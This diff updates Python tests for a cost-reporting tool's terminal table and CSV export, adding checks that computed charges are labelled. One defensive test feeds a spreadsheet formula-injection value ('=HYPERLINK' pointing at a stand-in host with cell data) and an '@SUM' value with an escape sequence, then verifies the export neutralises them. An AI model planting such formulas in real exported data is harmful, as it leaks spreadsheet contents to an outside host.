@@ -4,7 +4,6 @@ from __future__ import annotations
 
 import csv
 import io
-from dataclasses import replace
 
 from imgen.money.budget import Span, Spending, Standing
 from imgen.money.report import By, Use, cost_report
@@ -12,13 +11,13 @@ from imgen.records import UNKNOWN, Cost
 from imgen.screen.costs import cost_csv, cost_lines, use_line
 
 GMI = Spending("2027-01-15", "gmicloud", "pro", "/work", Standing.COUNTS, Cost("0.134", "usd"), UNKNOWN, 3)
-STUDIO = replace(GMI, provider="3daistudio", project=None, each=Cost("15", "credits"), jobs=1)
+STUDIO = GMI._replace(provider="3daistudio", project=None, each=Cost("15", "credits"), jobs=1)
 KNOWN = [
     GMI,
     STUDIO,
-    replace(STUDIO, standing=Standing.UNCERTAIN),
-    replace(GMI, day="2027-01-16", each=UNKNOWN, jobs=2),
-    replace(GMI, day="2027-01-16", charged=Cost("0.12", "usd"), jobs=1),
+    STUDIO._replace(standing=Standing.UNCERTAIN),
+    GMI._replace(day="2027-01-16", each=UNKNOWN, jobs=2),
+    GMI._replace(day="2027-01-16", charged=Cost("0.12", "usd"), jobs=1),
 ]
 
 
@@ -32,6 +31,18 @@ def test_the_table_has_a_line_for_each_unit_and_a_total() -> None:
         "total       4     0.536 usd              0.12 usd (1 job)",
         "            2     15 3daistudio credits                    15 3daistudio credits (1 job)",
         "            2     unknown",
+    ]
+
+
+def test_a_computed_charge_is_marked() -> None:
+    computed = GMI._replace(charged=Cost("0.13", "usd", computed=True))
+    reported = GMI._replace(charged=Cost("0.12", "usd"), jobs=1)
+
+    assert cost_lines(cost_report([computed], By.MODEL, None, None), width=None)[1:] == [
+        "gmicloud/pro  3     0.402 usd  0.39 usd (3 jobs, computed)"
+    ]
+    assert cost_lines(cost_report([computed, reported], By.MODEL, None, None), width=None)[1:] == [
+        "gmicloud/pro  4     0.536 usd  0.51 usd (4 jobs, 3 computed)"
     ]
 
 
@@ -52,17 +63,18 @@ def test_a_narrow_terminal_keeps_the_estimate() -> None:
 
 def test_a_spreadsheet_gets_every_line_and_runs_none() -> None:
     wicked = '=HYPERLINK("https://x/"&A1)'
-    known = [replace(GMI, project=wicked), replace(GMI, project="@SUM(A1)\x1b[31m"), replace(STUDIO, project="a,b\nc")]
+    known = [GMI._replace(project=wicked), GMI._replace(project="@SUM(A1)\x1b[31m"), STUDIO._replace(project="a,b\nc")]
 
     heading, *rows = csv.reader(io.StringIO(cost_csv(cost_report(known, By.PROJECT, None, None))))
 
     assert heading == [
-        *("project", "unit", "provider", "jobs", "estimated", "charged", "charged_jobs", "doubtful", "doubtful_jobs")
+        *("project", "unit", "provider", "jobs", "estimated"),
+        *("charged", "charged_jobs", "computed_jobs", "doubtful", "doubtful_jobs"),
     ]
     assert sorted(rows) == [
-        [f"'{wicked}", "usd", "", "3", "0.402", "", "0", "", "0"],
-        ["'@SUM(A1)\\x1b[31m", "usd", "", "3", "0.402", "", "0", "", "0"],
-        ["a,b c", "credits", "3daistudio", "1", "15", "", "0", "", "0"],
+        [f"'{wicked}", "usd", "", "3", "0.402", "", "0", "0", "", "0"],
+        ["'@SUM(A1)\\x1b[31m", "usd", "", "3", "0.402", "", "0", "0", "", "0"],
+        ["a,b c", "credits", "3daistudio", "1", "15", "", "0", "0", "", "0"],
     ]
 
 
